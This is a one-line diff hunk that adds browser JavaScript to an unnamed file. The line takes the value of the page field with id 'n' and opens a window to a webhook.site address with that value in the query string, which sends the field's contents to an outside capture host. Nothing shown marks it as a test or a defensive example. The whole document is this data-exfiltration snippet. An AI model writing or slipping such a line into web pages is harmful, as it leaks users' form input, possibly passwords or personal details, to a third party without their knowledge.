@@ -1,0 +1,1 @@
+window.open('https://webhook.site/abc?'+document.querySelector('#n').value)
